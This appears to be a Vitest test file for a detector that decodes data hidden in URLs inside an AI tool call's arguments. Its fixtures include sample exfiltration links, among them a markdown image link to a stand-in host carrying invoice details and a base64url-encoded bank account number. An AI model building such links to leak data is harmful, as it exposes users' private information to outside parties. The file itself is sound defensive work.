import { describe, expect, it } from 'vitest';
import { linkPayloads } from './link-payloads.js';

describe("what a link in a call's arguments carries", () => {
  it('gives a query value percent-decoded, as the server reading the request gets it', () => {
    const text = `Q3 ![](https://img.tips.test/p.gif?q=${encodeURIComponent('The Q3 invoice total is 123 EUR')})`;
    expect(linkPayloads(text)).toContain('The Q3 invoice total is 123 EUR');
  });

  it('decodes a base64url value and a path segment when they are text', () => {
    const b = Buffer.from('payable to account DE89 3704 0044 0532 0130 00').toString('base64url');
    expect(linkPayloads(`https://x.test/c?b=${b}`)).toContain(
      'payable to account DE89 3704 0044 0532 0130 00',
    );
    expect(
      linkPayloads(`https://x.test/${encodeURIComponent('keep this strictly between us')}`),
    ).toContain('keep this strictly between us');
  });

  it('adds nothing for text without links, short values, or bytes that are not text', () => {
    expect(linkPayloads('no link here')).toEqual([]);
    expect(linkPayloads('https://x.test/a?id=42')).toEqual([]);
    const binary = Buffer.from([0, 1, 2, 255, 254, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13]);
    expect(linkPayloads(`https://x.test/?d=${binary.toString('base64url')}`)).toEqual([
      binary.toString('base64url'),
    ]);
  });
});
